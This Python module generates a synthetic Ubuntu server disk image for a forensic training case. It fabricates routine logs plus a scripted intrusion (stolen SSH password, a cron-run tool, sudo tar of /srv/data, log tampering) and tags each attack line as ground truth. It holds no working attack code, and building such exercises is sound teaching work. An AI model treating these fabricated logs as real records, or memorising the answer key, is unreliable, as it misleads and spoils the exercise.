"""SRV01, the sample case's Ubuntu 22.04 server, as a raw ext4 image built without root.

The server's files are staged in a temporary folder and packed by ``mke2fs -d``; a
``debugfs`` script then gives every inode its real owner, mode and four timestamps, which
``mke2fs`` cannot take from an unprivileged staging tree (owners) or at all (change and
birth times). Fixed UUIDs, hash seed, clock (``E2FSPROGS_FAKE_TIME``), configuration file
and locale make the image byte-identical for the same seed.

What the server logged: two days of routine work (cron, systemd timers, an admin's and a
deploy account's SSH sessions, a kernel upgrade and reboot on Monday, a monitoring probe,
intranet web traffic) and, on Tuesday, the attack: bob's stolen password used from WS01
(S11), a tool fetched into /tmp (S12) and run by a new cron job (S13), /srv/data archived
with sudo (S14) and posted out (S15), and the shell history truncated (S16) -- which bash
then refilled with the whole session when the attacker logged out.

Logs use local time (Europe/Berlin, UTC+1 on these days) in the traditional syslog format
of Ubuntu 22.04; every time kept in the code is UTC.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import ipaddress
import math
import os
import random
import shutil
import struct
import subprocess
import tempfile
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from itertools import count
from pathlib import Path
from zoneinfo import ZoneInfo

from forensics.samples import payloads, story
from forensics.samples.story import Attack
from forensics.samples.truth import ArtifactReport, Ref

__all__ = ["ARTIFACT", "generate"]

ARTIFACT = "SRV01/srv01.img"
HOSTNAME = "srv01"
TZ = ZoneInfo(story.SRV01.timezone)
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
NOISE_RATIO = 50  # background entries per malicious entry, at least

# Clock of the server's life.
INSTALLED = datetime(2025, 6, 12, 9, 41, 7, tzinfo=UTC)  # Ubuntu installed, accounts created
ACCOUNTS = datetime(2025, 9, 3, 13, 22, 48, tzinfo=UTC)  # deploy account and web app added
REBOOT_CMD = story.START + timedelta(hours=6, minutes=26, seconds=50, milliseconds=412)  # bob's `sudo reboot`
BOOT = story.START + timedelta(hours=6, minutes=27, seconds=25, milliseconds=380)
ROTATED = story.START + timedelta(hours=23)  # logrotate.timer, Tuesday 00:00 local: nginx logs rotate
OLD_KERNEL, KERNEL = "5.15.0-101-generic", "5.15.0-105-generic"
LOGOUT_AFTER = timedelta(seconds=5)  # the attacker types ``exit`` this long after S16 (as on the wire)

# The network around the server.
BOB_LAPTOP = "10.20.0.35"
CI_RUNNER = "10.20.0.40"
MONITOR = "10.20.0.60"
NAS = "10.20.0.50"
INTRANET = "intranet.corp.example.com"

UID = {"root": 0, "www-data": 33, "syslog": 107, "srvadmin": 1000, "bob": 1001, "deploy": 1002}
GID = {"root": 0, "adm": 4, "shadow": 42, "utmp": 43, "www-data": 33, "crontab": 112, "syslog": 113}
GID |= {"srvadmin": 1000, "bob": 1001, "deploy": 1002}

#: Long-running daemons' PIDs, for the boot before and the boot after Monday's reboot.
DAEMONS = (
    {"sshd": 918, "cron": 861, "systemd-logind": 842, "rsyslogd": 794, "nginx": 1027, "gunicorn": 1048},
    {
        "sshd": 891,
        "cron": 853,
        "systemd-logind": 838,
        "rsyslogd": 781,
        "nginx": 1019,
        "systemd-timesyncd": 604,
    },
)


# --- time ---------------------------------------------------------------------------------------


def local(t: datetime) -> datetime:
    """The server's wall clock for a UTC instant."""
    return t.astimezone(TZ)


def stamp(t: datetime) -> str:
    """Syslog's traditional timestamp (``Mar  9 07:28:14``), in local time, locale-free."""
    lt = local(t)
    return f"{MONTHS[lt.month - 1]} {lt.day:2d} {lt:%H:%M:%S}"


def at(day: datetime, hms: str, ms: int = 0) -> datetime:
    """``day`` (a UTC midnight) plus a UTC ``HH:MM:SS``."""
    h, m, s = (int(x) for x in hms.split(":"))
    return day + timedelta(hours=h, minutes=m, seconds=s, milliseconds=ms)


def secs(x: float) -> timedelta:
    return timedelta(seconds=x)


# --- processes and log lines --------------------------------------------------------------------


@dataclass(eq=False)
class Proc:
    """A process; ``pid`` is handed out later, in start order, so PIDs grow with time."""

    start: datetime
    pid: int = 0


class Pids:
    """The kernel's PID counter for both boots: every spawn gets the next free number plus the
    forks nobody logged (shell pipelines, cron's children), more of them the longer the gap."""

    def __init__(self, r: random.Random):
        self._r = r
        self._procs: list[Proc] = []

    def spawn(self, start: datetime) -> Proc:
        proc = Proc(start)
        self._procs.append(proc)
        return proc

    def assign(self) -> None:
        """Number every spawned process; the old boot's counter stands near 398k (16 days up)."""
        counter, last = 398_417, story.START
        booted = False
        for proc in sorted(self._procs, key=lambda p: p.start):
            if not booted and proc.start >= BOOT:
                counter, last, booted = 1_187, BOOT, True
            idle = (proc.start - last).total_seconds()
            counter += 1 + self._r.randint(0, 9) + int(idle / 12 * self._r.uniform(0.6, 1.4))
            proc.pid, last = counter, proc.start


def daemon(name: str, t: datetime) -> Proc:
    """The long-running daemon ``name`` as it ran at ``t``."""
    return Proc(t, DAEMONS[t >= BOOT][name])


@dataclass(eq=False)
class Line:
    """One line of a syslog-format file; ``ref`` names the step it is evidence of. ``{}`` in
    ``text`` stand for the PIDs of ``pids``, which are only known when the line is rendered."""

    time: datetime
    tag: str
    text: str
    proc: Proc | None = None
    attack: bool = False
    ref: str = ""
    what: str = ""
    pids: tuple[Proc, ...] = ()

    def render(self) -> str:
        head = f"{self.tag}[{self.proc.pid}]" if self.proc else self.tag
        text = self.text.format(*(p.pid for p in self.pids)) if self.pids else self.text
        return f"{stamp(self.time)} {HOSTNAME} {head}: {text}"


@dataclass(eq=False)
class Utmp:
    """One ``struct utmp`` record (glibc x86-64, 384 bytes) of wtmp or btmp."""

    kind: int  # 1 RUN_LVL, 2 BOOT_TIME, 6 LOGIN_PROCESS, 7 USER_PROCESS, 8 DEAD_PROCESS
    time: datetime
    proc: Proc | int
    line: str
    ident: str = ""
    user: str = ""
    host: str = ""
    attack: bool = False
    ref: str = ""
    what: str = ""

    _STRUCT = struct.Struct("<hxxi32s4s32s256shhiii16s20x")

    def pack(self) -> bytes:
        pid = self.proc.pid if isinstance(self.proc, Proc) else self.proc
        addr = b""
        with contextlib.suppress(ValueError):  # a boot record's host is the kernel release
            addr = ipaddress.ip_address(self.host).packed
        sec, usec = int(self.time.timestamp()), self.time.microsecond
        fields = (
            self.kind,
            pid,
            self.line.encode(),
            self.ident.encode(),
            self.user.encode(),
            self.host.encode(),
        )
        return self._STRUCT.pack(*fields, 0, 0, 0, sec, usec, addr)


@dataclass
class Server:
    """Everything SRV01 writes while it runs: syslog-format lines, login records, processes."""

    r: random.Random
    scale: int
    pids: Pids
    logs: dict[str, list[Line]] = field(
        default_factory=lambda: {"auth.log": [], "syslog": [], "kern.log": []}
    )
    wtmp: list[Utmp] = field(default_factory=list)
    btmp: list[Utmp] = field(default_factory=list)

    def log(
        self, file: str, t: datetime, tag: str, text: str, proc: Proc | None = None, *,
        attack: bool = False, ref: str = "", what: str = "",
    ) -> Line:  # fmt: skip
        line = Line(t, tag, text, proc, attack, ref, what)
        self.logs[file].append(line)
        return line

    def systemd(self, t: datetime, *texts: str, attack: bool = False) -> None:
        """Messages of PID 1, a few milliseconds apart."""
        for i, text in enumerate(texts):
            self.log("syslog", t + secs(0.004 * i), "systemd", text, Proc(t, 1), attack=attack)

    def unit_run(self, t: datetime, unit: str, desc: str, took: float, cpu: str = "") -> None:
        """A oneshot service started by a timer: Starting, Deactivated, Finished (and its CPU)."""
        self.pids.spawn(t)
        self.systemd(t, f"Starting {desc}...")
        done = [f"{unit}: Deactivated successfully.", f"Finished {desc}."]
        self.systemd(t + secs(took), *done, *([f"{unit}: Consumed {cpu} CPU time."] if cpu else []))


# --- SSH sessions -------------------------------------------------------------------------------


@dataclass(eq=False)
class Session:
    """One SSH logon and what its user ran as root with sudo."""

    user: str
    src: str
    sport: int
    start: datetime  # when sshd accepted the credentials
    end: datetime | None  # logout; None when the reboot cut the session
    method: str = "publickey"
    failures: int = 0  # wrong passwords typed before the accepted one
    sudo: list[tuple[datetime, str, str]] = field(default_factory=list)  # (time, cwd, command)
    attack: bool = False
    tty: int = -1
    sid: int = 0

    @property
    def until(self) -> datetime:
        return self.end or REBOOT_CMD


def _pubkey(name: str) -> tuple[str, str]:
    """A deterministic ed25519 public key line and its OpenSSH SHA256 fingerprint."""
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32)
    blob += hashlib.sha256(f"srv01-key:{name}".encode()).digest()
    fingerprint = base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    return f"ssh-ed25519 {base64.b64encode(blob).decode()}", fingerprint


BOB_SUDO = (
    ("/home/bob", "/usr/bin/systemctl status nginx"),
    ("/home/bob", "/usr/bin/journalctl -u webapp --since today"),
    ("/home/bob", "/usr/bin/tail -n 200 /var/log/nginx/error.log"),
    ("/home/bob", "/usr/bin/apt update"),
    ("/home/bob", "/usr/sbin/ufw status verbose"),
    ("/home/bob", "/usr/bin/du -sh /srv/data"),
)
SUDO_TAKES = {"apt update": 6.2, "apt upgrade": 93.5, "tar czf": 0.64, "restart webapp": 1.3}


def _sessions(plan: Attack, r: random.Random, scale: int) -> list[Session]:
    """Every SSH logon of the two days: fixed ones the story needs, random routine ones, the attack."""
    mon, tue = story.START, story.ATTACK_DAY
    s11 = next(c for c in plan.connections if c.step == "S11")
    upgrade = at(mon, "06:21:12", 412)
    sessions = [
        Session("bob", BOB_LAPTOP, r.randint(40000, 60999), upgrade, None, sudo=[
            (upgrade + secs(31.7), "/home/bob", "/usr/bin/apt update"),
            (upgrade + secs(58.2), "/home/bob", "/usr/bin/apt upgrade"),
            (REBOOT_CMD, "/home/bob", "/usr/sbin/reboot"),
        ]),
        Session("bob", BOB_LAPTOP, r.randint(40000, 60999), BOOT + secs(207.6), BOOT + secs(488.1),
                sudo=[(BOOT + secs(251.3), "/home/bob", "/usr/bin/systemctl --failed")]),
        Session("bob", BOB_LAPTOP, r.randint(40000, 60999), at(mon, "13:04:51", 77), at(mon, "13:31:09", 640),
                method="password", failures=1),
        Session("bob", BOB_LAPTOP, r.randint(40000, 60999), at(tue, "07:48:20", 305), at(tue, "08:09:55", 112),
                method="password", failures=2),
        # deploy watches the app while the attacker is in: the attacker's session gets pts/1.
        Session("deploy", CI_RUNNER, r.randint(40000, 60999), at(tue, "10:58:40", 231), at(tue, "11:31:12", 958),
                sudo=[(at(tue, "11:29:48", 410), "/srv/webapp", "/usr/bin/systemctl restart webapp")]),
        Session("bob", story.WS01.ip, s11.sport, s11.time, plan.step("S16").time + LOGOUT_AFTER + secs(0.175), method="password",
                sudo=[(plan.step("S14").time, "/home/bob", f"/usr/bin/tar czf {story.ARCHIVE_PATH} {story.DATA_DIR}")],
                attack=True),
    ]  # fmt: skip
    windows = [  # (user, sessions per scale, earliest and latest start UTC); none overlaps the attack
        ("bob", 2, at(mon, "07:00:00"), at(mon, "16:30:00")),
        ("bob", 1, at(tue, "07:00:00"), at(tue, "10:15:00")),
        ("deploy", 2, at(mon, "08:00:00"), at(mon, "16:00:00")),
        ("deploy", 1, at(tue, "08:15:00"), at(tue, "10:20:00")),
        ("deploy", 1, at(tue, "12:00:00"), story.COLLECTED - timedelta(minutes=45)),
    ]
    for user, n, lo, hi in windows:  # one session per equal slot, so one user's sessions rarely overlap
        slot = (hi - lo) / (n * scale)
        for i in range(n * scale):
            sessions.append(
                _routine_session(r, user, lo + slot * i + secs(r.uniform(0, slot.total_seconds())))
            )
    return sorted(sessions, key=lambda s: s.start)


def _routine_session(r: random.Random, user: str, start: datetime) -> Session:
    """An admin's or a deployment's everyday logon, 4 to 35 minutes long."""
    length = r.uniform(240, 2100) if user == "bob" else r.uniform(150, 600)
    src = BOB_LAPTOP if user == "bob" else CI_RUNNER
    s = Session(user, src, r.randint(40000, 60999), start, start + secs(length))
    if user == "deploy":
        s.sudo.append(
            (start + secs(r.uniform(40, length - 60)), "/srv/webapp", "/usr/bin/systemctl restart webapp")
        )
    else:
        for _ in range(r.choice((0, 1, 1, 2))):
            cwd, cmd = r.choice(BOB_SUDO)
            s.sudo.append((start + secs(r.uniform(20, length - 20)), cwd, cmd))
    s.sudo.sort()
    return s


def _assign_ttys(sessions: list[Session]) -> None:
    """Give each session the lowest free pts and logind's next session number for its boot."""
    busy: dict[int, datetime] = {}
    sid = {False: 186, True: 0}
    for s in sessions:
        busy = {tty: until for tty, until in busy.items() if until > s.start}
        s.tty = next(n for n in count() if n not in busy)
        busy[s.tty] = s.until
        sid[s.start >= BOOT] += 1
        s.sid = sid[s.start >= BOOT]


def _others_open(s: Session, sessions: list[Session], t: datetime) -> bool:
    """Whether another session of the same user is open at ``t`` (its user manager keeps running)."""
    return any(o is not s and o.user == s.user and o.start <= t < o.until for o in sessions)


def _user_manager(srv: Server, s: Session, t: datetime, starting: bool) -> None:
    """systemd's per-user slice and manager, started at a user's first logon, stopped after the last."""
    uid, a = UID[s.user], s.attack
    if starting:
        manager = srv.pids.spawn(t)
        srv.systemd(t, f"Created slice User Slice of UID {uid}.", f"Starting User Runtime Directory /run/user/{uid}...",
                    f"Finished User Runtime Directory /run/user/{uid}.", f"Starting User Manager for UID {uid}...",
                    attack=a)  # fmt: skip
        srv.log("auth.log", t + secs(0.02), "systemd",
                f"pam_unix(systemd-user:session): session opened for user {s.user}(uid={uid}) by (uid=0)",
                manager, attack=a)  # fmt: skip
        srv.systemd(t + secs(0.09), f"Started User Manager for UID {uid}.", attack=a)
        return
    srv.systemd(t, f"Stopping User Manager for UID {uid}...", f"user@{uid}.service: Deactivated successfully.",
                f"Stopped User Manager for UID {uid}.", f"Stopping User Runtime Directory /run/user/{uid}...",
                f"run-user-{uid}.mount: Deactivated successfully.", f"user-runtime-dir@{uid}.service: Deactivated successfully.",
                f"Stopped User Runtime Directory /run/user/{uid}.", f"Removed slice User Slice of UID {uid}.",
                attack=a)  # fmt: skip


def _logon(srv: Server, s: Session, sessions: list[Session], keys: dict[str, str]) -> tuple[Proc, Proc]:
    """sshd's lines from the password attempts to the open session; returns sshd's connection
    process (it logs the PAM session) and the user's session process (it logs the disconnect)."""
    a, t0 = s.attack, s.start
    pre = srv.pids.spawn(t0 - secs(1.41 + 2.7 * s.failures))
    for i in range(s.failures):
        tf = t0 - secs(2.7 * (s.failures - i))
        srv.log("auth.log", tf - secs(0.9), "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                f"euid=0 tty=ssh ruser= rhost={s.src}  user={s.user}", pre)  # fmt: skip
        srv.log("auth.log", tf, "sshd", f"Failed password for {s.user} from {s.src} port {s.sport} ssh2", pre)
        srv.btmp.append(Utmp(6, tf, pre, "ssh:notty", user=s.user, host=s.src))
    how = f"publickey for {s.user} from {s.src} port {s.sport} ssh2: ED25519 SHA256:{keys[s.user]}"
    if s.method == "password":
        how = f"password for {s.user} from {s.src} port {s.sport} ssh2"
    what = f"sshd accepted bob's password from {s.src} (WS01)"
    srv.log("auth.log", t0, "sshd", f"Accepted {how}", pre, attack=a, ref="S11" if a else "", what=what)
    uid = UID[s.user]
    srv.log(
        "auth.log",
        t0 + secs(0.031),
        "sshd",
        f"pam_unix(sshd:session): session opened for user {s.user}(uid={uid}) by (uid=0)",
        pre,
        attack=a,
    )
    srv.log("auth.log", t0 + secs(0.048), "systemd-logind", f"New session {s.sid} of user {s.user}.",
            daemon("systemd-logind", t0), attack=a)  # fmt: skip
    if not _others_open(s, sessions, t0):
        _user_manager(srv, s, t0 + secs(0.052), starting=True)
    srv.systemd(t0 + secs(0.231), f"Started Session {s.sid} of User {s.user}.", attack=a)
    child = srv.pids.spawn(t0 + secs(0.262))
    srv.wtmp.append(
        Utmp(7, t0 + secs(0.405), child, f"pts/{s.tty}", f"ts/{s.tty}", s.user, s.src, attack=a,
             ref="S11" if a else "", what=f"wtmp: bob logged on to pts/{s.tty} from {s.src}")
    )  # fmt: skip
    return pre, child


def _logoff(srv: Server, s: Session, sessions: list[Session], pre: Proc, child: Proc) -> None:
    """sshd's, logind's and systemd's lines when the user logs out, and the wtmp logout record."""
    a, t = s.attack, s.until
    srv.log("auth.log", t, "sshd", f"Received disconnect from {s.src} port {s.sport}:11: disconnected by user",
            child, attack=a)  # fmt: skip
    srv.log("auth.log", t + secs(0.001), "sshd", f"Disconnected from user {s.user} {s.src} port {s.sport}", child,
            attack=a)  # fmt: skip
    srv.log("auth.log", t + secs(0.012), "sshd", f"pam_unix(sshd:session): session closed for user {s.user}",
            pre, attack=a)  # fmt: skip
    srv.wtmp.append(Utmp(8, t + secs(0.016), child, f"pts/{s.tty}", f"ts/{s.tty}", attack=a))
    logind = daemon("systemd-logind", t)
    srv.log(
        "auth.log",
        t + secs(0.021),
        "systemd-logind",
        f"Session {s.sid} logged out. Waiting for processes to exit.",
        logind,
        attack=a,
    )
    srv.log("auth.log", t + secs(0.034), "systemd-logind", f"Removed session {s.sid}.", logind, attack=a)
    srv.systemd(t + secs(0.03), f"session-{s.sid}.scope: Deactivated successfully.", attack=a)
    if not _others_open(s, sessions, t):
        _user_manager(srv, s, t + secs(10.11), starting=False)


def _sudo(srv: Server, s: Session, t: datetime, cwd: str, cmd: str) -> None:
    """sudo's command line and its PAM session (the reboot never closes its session)."""
    srv.pids.spawn(t)
    a = s.attack
    what = "sudo ran tar over /srv/data as root" if a else ""
    srv.log("auth.log", t, "sudo", f"{s.user:>8} : TTY=pts/{s.tty} ; PWD={cwd} ; USER=root ; COMMAND={cmd}",
            attack=a, ref="S14" if a else "", what=what)  # fmt: skip
    srv.log(
        "auth.log",
        t + secs(0.003),
        "sudo",
        f"pam_unix(sudo:session): session opened for user root(uid=0) by {s.user}(uid={UID[s.user]})",
        attack=a,
    )
    if cmd.endswith("reboot"):
        return
    took = next((v for k, v in SUDO_TAKES.items() if k in cmd), 0.08 + srv.r.random())
    srv.log(
        "auth.log", t + secs(took), "sudo", "pam_unix(sudo:session): session closed for user root", attack=a
    )


def _session_events(srv: Server, sessions: list[Session], keys: dict[str, str]) -> None:
    """Every session's logon, sudo commands and logoff (sessions cut by the reboot never log off)."""
    for s in sessions:
        pre, child = _logon(srv, s, sessions, keys)
        for t, cwd, cmd in s.sudo:
            _sudo(srv, s, t, cwd, cmd)
        if s.end is not None:
            _logoff(srv, s, sessions, pre, child)


# --- the web app, cron, timers, boot --------------------------------------------------------


class Webapp:
    """The gunicorn web app behind nginx: started at boot, restarted by deploys."""

    def __init__(self, srv: Server):
        self.srv = srv
        self.master = Proc(story.START, DAEMONS[0]["gunicorn"])
        self.workers = [Proc(story.START, DAEMONS[0]["gunicorn"] + i) for i in (13, 14, 15)]

    def start(self, t: datetime) -> None:
        """gunicorn's start-up lines; the master and its three workers get fresh PIDs."""
        self.master = self.srv.pids.spawn(t)
        self.workers = [self.srv.pids.spawn(t + secs(0.09 + 0.01 * i)) for i in range(3)]
        self._say(t + secs(0.31), self.master, "Starting gunicorn 20.1.0")
        self._say(t + secs(0.312), self.master, "Listening at: http://127.0.0.1:8000 ({})", self.master)
        self._say(t + secs(0.313), self.master, "Using worker: sync")
        for i, worker in enumerate(self.workers):
            self._say(t + secs(0.33 + 0.01 * i), worker, "Booting worker with pid: {}", worker)

    def restart(self, t: datetime) -> None:
        """``systemctl restart webapp``: stop the running gunicorn, start a new one."""
        self.srv.systemd(t + secs(0.02), "Stopping Intranet web application (gunicorn)...")
        self._say(t + secs(0.03), self.master, "Handling signal: term")
        for worker in self.workers:
            self._say(t + secs(0.05), worker, "Worker exiting (pid: {})", worker)
        self._say(t + secs(0.61), self.master, "Shutting down: Master")
        self.srv.systemd(t + secs(0.72), "webapp.service: Deactivated successfully.",
                         "Stopped Intranet web application (gunicorn).", "Started Intranet web application (gunicorn).")  # fmt: skip
        self.start(t + secs(0.74))

    def _say(self, t: datetime, proc: Proc, text: str, *named: Proc) -> None:
        """A gunicorn log line, with gunicorn's own timestamp and the PID that speaks."""
        head = f"[{local(t):%Y-%m-%d %H:%M:%S %z}] [{{}}] [INFO] "
        self.srv.logs["syslog"].append(Line(t, "gunicorn", head + text, proc, pids=(proc, *named)))


def _down(t: datetime) -> bool:
    """Whether the server is off or booting at ``t`` (nothing runs from cron, nobody answers)."""
    return REBOOT_CMD <= t < BOOT + secs(12)


def _cron(srv: Server, plan: Attack) -> None:
    """cron's jobs: sysstat every ten minutes, run-parts hourly and daily, and bob's new job."""
    first_tool_run = _next_ten(plan.step("S13").time)
    t = story.START
    while t < story.COLLECTED:
        lt = local(t)
        jobs: list[tuple[str, str, float]] = []
        if lt.minute % 10 == 5:
            jobs.append(("root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1", 0.05))
        if lt.minute == 17:
            jobs.append(("root", "   cd / && run-parts --report /etc/cron.hourly", 0.02))
        if (lt.hour, lt.minute) == (6, 25):
            jobs.append(
                ("root", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", 11.4)
            )
        if (lt.hour, lt.minute) == (23, 59):
            jobs.append(("root", "command -v debian-sa1 > /dev/null && debian-sa1 60 2", 0.3))
        if t >= first_tool_run and lt.minute % 10 == 0:
            jobs.append(("bob", f"{story.TOOL_PATH} >/dev/null 2>&1", 2.1))
        if not _down(t):
            for user, cmd, took in jobs:
                _cron_job(srv, t + secs(1.0 + srv.r.uniform(0.0, 0.35)), user, cmd, took, t == first_tool_run)
        t += timedelta(minutes=1)


def _next_ten(t: datetime) -> datetime:
    """The first whole ten minutes after ``t``: when a ``*/10`` cron job first runs."""
    base = t.replace(second=0, microsecond=0)
    return base + timedelta(minutes=10 - base.minute % 10)


def _cron_job(srv: Server, t: datetime, user: str, cmd: str, took: float, first: bool) -> None:
    """One run of a cron job: its PAM session in auth.log and its command line in syslog."""
    proc, a, uid = srv.pids.spawn(t), user == "bob", UID[user]
    srv.log("auth.log", t, "CRON", f"pam_unix(cron:session): session opened for user {user}(uid={uid}) by (uid=0)",
            proc, attack=a)  # fmt: skip
    what = "cron ran the attacker's tool for the first time"
    srv.log("syslog", t + secs(0.002), "CRON", f"({user}) CMD ({cmd})", proc, attack=a, ref="S13" if first else "",
            what=what if first else "")  # fmt: skip
    srv.log("auth.log", t + secs(took + srv.r.uniform(0, took / 5)), "CRON",
            f"pam_unix(cron:session): session closed for user {user}", proc, attack=a)  # fmt: skip


def _crontab_edit(srv: Server, plan: Attack) -> None:
    """``crontab -`` replacing bob's crontab (S13), and cron noticing it at the next minute."""
    t = plan.step("S13").time
    srv.log("syslog", t, "crontab", "(bob) REPLACE (bob)", srv.pids.spawn(t - secs(0.02)), attack=True, ref="S13",
            what="crontab replaced bob's crontab")  # fmt: skip
    reload_at = t.replace(second=1, microsecond=0) + timedelta(minutes=1)
    srv.log("syslog", reload_at, "cron", "(bob) RELOAD (crontabs/bob)", daemon("cron", reload_at), attack=True,
            ref="S13", what="cron loaded bob's new crontab")  # fmt: skip


def _probes(srv: Server) -> None:
    """The monitoring host checks that sshd answers, every five minutes (more often at scale)."""
    step = 300 / srv.scale
    t = story.START + secs(srv.r.uniform(0, step))
    while t < story.COLLECTED:
        if not _down(t):
            proc = srv.pids.spawn(t)
            srv.log(
                "auth.log",
                t + secs(0.004),
                "sshd",
                f"Connection closed by {MONITOR} port {srv.r.randint(32768, 60999)} [preauth]",
                proc,
            )
        t += secs(step + srv.r.uniform(-0.4, 0.4))


def _timers(srv: Server) -> None:
    """systemd timers over both days: apt, motd, fwupd, tmpfiles, the nightly backup, logrotate."""
    r = srv.r
    for day in (story.START, story.ATTACK_DAY):
        srv.unit_run(day + timedelta(hours=1, minutes=30, seconds=r.uniform(0, 4)), "data-backup.service",
                     "Nightly copy of /srv/data to the NAS", r.uniform(2, 9), f"{r.uniform(0.8, 2.2):.3f}s")  # fmt: skip
        apt_upgrade = day + timedelta(hours=5, seconds=r.uniform(0, 1500))
        srv.unit_run(apt_upgrade, "apt-daily-upgrade.service", "Daily apt upgrade and clean activities",
                     r.uniform(1, 4), f"{r.uniform(0.6, 1.4):.3f}s")  # fmt: skip
        for hours, unit, desc in (
            ((3, 17), "apt-daily.service", "Daily apt download activities"),
            ((10, 20), "motd-news.service", "Message of the Day"),
            ((8, 14), "fwupd-refresh.service", "Refresh fwupd metadata and update motd"),
        ):
            for h in hours:
                t = day + timedelta(hours=h, seconds=r.uniform(0, 3500))
                if not _down(t) and t < story.COLLECTED:
                    srv.unit_run(t, unit, desc, r.uniform(0.2, 3))
    clean = "Cleanup of Temporary Directories"
    srv.unit_run(
        story.START + timedelta(hours=5, minutes=12, seconds=44),
        "systemd-tmpfiles-clean.service",
        clean,
        0.04,
    )
    srv.unit_run(BOOT + timedelta(minutes=15, seconds=2), "systemd-tmpfiles-clean.service", clean, 0.05)
    srv.unit_run(ROTATED + secs(0.3), "logrotate.service", "Rotate log files", 0.52, "0.311s")
    srv.unit_run(ROTATED + secs(0.31), "man-db.service", "Daily man-db regeneration", 0.41, "0.204s")


KERNEL_LINES = (
    (0.0, f"Linux version {KERNEL} (buildd@lcy02-amd64-080) (gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0, GNU ld "
          "(GNU Binutils for Ubuntu) 2.38) #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024 (Ubuntu 5.15.0-105.115-generic 5.15.148)"),
    (0.0, f"Command line: BOOT_IMAGE=/boot/vmlinuz-{KERNEL} root=UUID={{fs_uuid}} ro"),
    (0.0, "KERNEL supported cpus:"),
    (0.0, "  Intel GenuineIntel"),
    (0.0, "  AMD AuthenticAMD"),
    (0.0, "DMI: QEMU Standard PC (i440FX + PIIX, 1996), BIOS 1.15.0-1 04/01/2014"),
    (0.0, "Hypervisor detected: KVM"),
    (0.000002, "kvm-clock: Using msrs 4b564d01 and 4b564d00"),
    (0.003817, "tsc: Detected 2394.454 MHz processor"),
    (0.112734, "smpboot: Allowing 2 CPUs, 0 hotplug CPUs"),
    (0.301249, "Memory: 3978352K/4193768K available (16393K kernel code, 4387K rwdata, 10832K rodata, 3236K init, "
               "6576K bss, 215156K reserved, 0K cma-reserved)"),
    (0.412208, "smp: Brought up 1 node, 2 CPUs"),
    (0.722040, "NET: Registered PF_INET protocol family"),
    (1.090511, " vda: vda1 vda2"),
    (1.203345, "virtio_net virtio0 ens3: renamed from eth0"),
    (1.871902, "EXT4-fs (vda2): mounted filesystem with ordered data mode. Opts: (null). Quota mode: none."),
    (2.661377, "systemd[1]: Inserted module 'autofs4'"),
    (2.733912, "systemd[1]: Detected virtualization kvm."),
    (2.734001, "systemd[1]: Detected architecture x86-64."),
    (2.741253, f"systemd[1]: Hostname set to <{HOSTNAME}>."),
    (3.402117, "EXT4-fs (vda2): re-mounted. Opts: (null). Quota mode: none."),
    (3.771406, 'audit: type=1400 audit({audit}.412:2): apparmor="STATUS" operation="profile_load" profile="unconfined" '
               'name="lsb_release" pid=412 comm="apparmor_parser"'),
    (5.402655, "IPv6: ADDRCONF(NETDEV_CHANGE): ens3: link becomes ready"),
)  # fmt: skip

BOOT_UNITS = (
    "Started Journal Service.", "Finished Load Kernel Modules.", "Finished Create System Users.",
    "Starting Create Static Device Nodes in /dev...", "Finished Create Static Device Nodes in /dev.",
    "Reached target Local File Systems.", "Starting Network Configuration...", "Started Network Configuration.",
    "Starting Network Time Synchronization...", "Started Network Time Synchronization.",
    "Reached target System Time Set.", "Started Regular background program processing daemon.",
    "Starting System Logging Service...", "Started System Logging Service.", "Starting User Login Management...",
    "Started User Login Management.", "Starting OpenBSD Secure Shell server...", "Started OpenBSD Secure Shell server.",
    "Starting A high performance web server and a reverse proxy server...",
    "Started A high performance web server and a reverse proxy server.", "Started Intranet web application (gunicorn).",
    "Reached target Multi-User System.", "Reached target Graphical Interface.",
    "Starting Record Runlevel Change in UTMP...", "systemd-update-utmp-runlevel.service: Deactivated successfully.",
    "Finished Record Runlevel Change in UTMP.", "Startup finished in 2.481s (kernel) + 7.114s (userspace) = 9.595s.",
)  # fmt: skip

SHUTDOWN_UNITS = (
    "Stopping Session {sid} of User bob...", "Stopping Regular background program processing daemon...",
    "Stopping A high performance web server and a reverse proxy server...",
    "Stopping Intranet web application (gunicorn)...", "Stopping OpenBSD Secure Shell server...",
    "cron.service: Deactivated successfully.", "Stopped Regular background program processing daemon.",
    "ssh.service: Deactivated successfully.", "Stopped OpenBSD Secure Shell server.",
    "nginx.service: Deactivated successfully.", "Stopped A high performance web server and a reverse proxy server.",
    "webapp.service: Deactivated successfully.", "Stopped Intranet web application (gunicorn).",
    "session-{sid}.scope: Deactivated successfully.", "Stopped Session {sid} of User bob.",
    "Stopping System Logging Service...",
)  # fmt: skip


def _reboot(srv: Server, app: Webapp, sid: int, fs_uuid: str) -> None:
    """Monday's reboot into the new kernel: the shutdown, the kernel's and systemd's boot lines,
    the daemons coming back, and wtmp's shutdown, reboot and runlevel records."""
    t = REBOOT_CMD + secs(0.31)
    srv.log("auth.log", t, "systemd-logind", "System is rebooting.", daemon("systemd-logind", t))
    srv.systemd(t + secs(0.05), *(u.format(sid=sid) for u in SHUTDOWN_UNITS))
    srv.log("auth.log", t + secs(0.2), "sshd", "Received signal 15; terminating.", daemon("sshd", t))
    srv.log("syslog", t + secs(1.2), "rsyslogd", f'[origin software="rsyslogd" swVersion="8.2112.0" x-pid="'
            f'{DAEMONS[0]["rsyslogd"]}"] exiting on signal 15.')  # fmt: skip
    srv.wtmp.append(Utmp(1, t + secs(1.4), 0, "~", "~~", "shutdown", OLD_KERNEL))
    srv.wtmp.append(Utmp(2, BOOT, 0, "~", "~~", "reboot", KERNEL))
    logged = BOOT + secs(8.102)
    for uptime, text in KERNEL_LINES:
        text = text.format(fs_uuid=fs_uuid, audit=int((BOOT + secs(uptime)).timestamp()))
        for file in ("kern.log", "syslog"):
            srv.log(file, logged, "kernel", f"[{uptime:12.6f}] {text}")
